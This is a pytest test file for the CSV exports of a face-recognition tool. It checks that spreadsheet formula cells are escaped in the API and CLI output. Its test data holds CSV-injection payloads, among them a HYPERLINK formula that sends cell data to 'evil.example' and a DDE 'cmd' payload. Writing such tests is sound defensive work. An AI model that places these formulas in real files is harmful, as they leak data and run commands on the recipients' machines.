"""Issue 28, point 3: no CSV the product writes carries a formula. Names such as
``=HYPERLINK(...)`` were written raw into ``/api/events.csv``, ``facemetric events --csv`` and
``identify --csv``; a spreadsheet runs such a cell."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from facemetric.cli import main
from facemetric.csvcells import SafeDictWriter, SafeWriter, safe_cell
from test_web_events import app_client, feed

NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1+1)",
]


@pytest.mark.parametrize("name", [*NAMES, "\t=1+1", "\r=1+1"])
def test_formula_cells_are_neutralised(name: str) -> None:
    buf = io.StringIO()
    SafeWriter(buf).writerow([name, -0.25, 3, None, "Ann Lee"])
    row = next(csv.reader(io.StringIO(buf.getvalue())))
    assert row == ["'" + name, "-0.25", "3", "", "Ann Lee"]
    buf = io.StringIO()
    writer = SafeDictWriter(buf, ["person", "similarity"])
    writer.writeheader()
    writer.writerow({"person": name, "similarity": -0.5})
    assert list(csv.DictReader(io.StringIO(buf.getvalue()))) == [
        {"person": "'" + name, "similarity": "-0.5"}
    ]
    assert safe_cell("Ann-Marie") == "Ann-Marie" and safe_cell(-1.0) == -1.0


def test_events_csv_over_http_and_cli_carry_no_formula(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with app_client(tmp_path) as client:
        for name in NAMES:
            feed(client, 1, person=name)
        r = client.get("/api/events.csv")
        assert r.status_code == 200
        people = [row["person"] for row in csv.DictReader(io.StringIO(r.text))]
        assert sorted(people) == sorted("'" + n for n in NAMES), people
    assert main(["events", "--db", str(tmp_path / "gallery.db"), "--csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert sorted(row["person"] for row in rows) == sorted("'" + n for n in NAMES)
    assert not any(
        cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values() if cell
    )


def test_event_csv_rows_carry_the_decisions_vocabulary() -> None:
    """Events' CSV (API and CLI) has the same score / threshold / reason / explanation columns
    as ``identify --csv``, taken from the event's own decision (issue 29, point 4)."""
    from facemetric.csvcells import DECISION_COLUMNS, decision_columns
    from facemetric.events.model import Event
    from facemetric.recognize.decision import Calibration, Decider, DecisionSettings

    decider = Decider(Calibration(0.9, 0.01, 10, "gallery", 0.5), DecisionSettings(margin=0.02))
    decision = decider.decide([("ada", 0.89), ("bob", 0.80)])
    event = Event(camera="door", person=None, first_seen=0.0, last_seen=1.0, similarity=0.89,
                  track_id=1, frames=3)  # fmt: skip
    event.decision = decision.to_dict()
    row = decision_columns(event.to_dict())
    assert row["reason"] == "below_threshold" == decision.reason
    assert row["threshold"] == pytest.approx(0.9, abs=1e-4)
    assert row["score"] == pytest.approx(decision.compared, abs=1e-4)
    assert row["explanation"] == decision.explain() and "0.9" in row["explanation"]
    empty = decision_columns(Event("door", None, 0.0, 1.0, -1.0, 2, 1).to_dict())
    assert all(empty[c] is None for c in DECISION_COLUMNS)
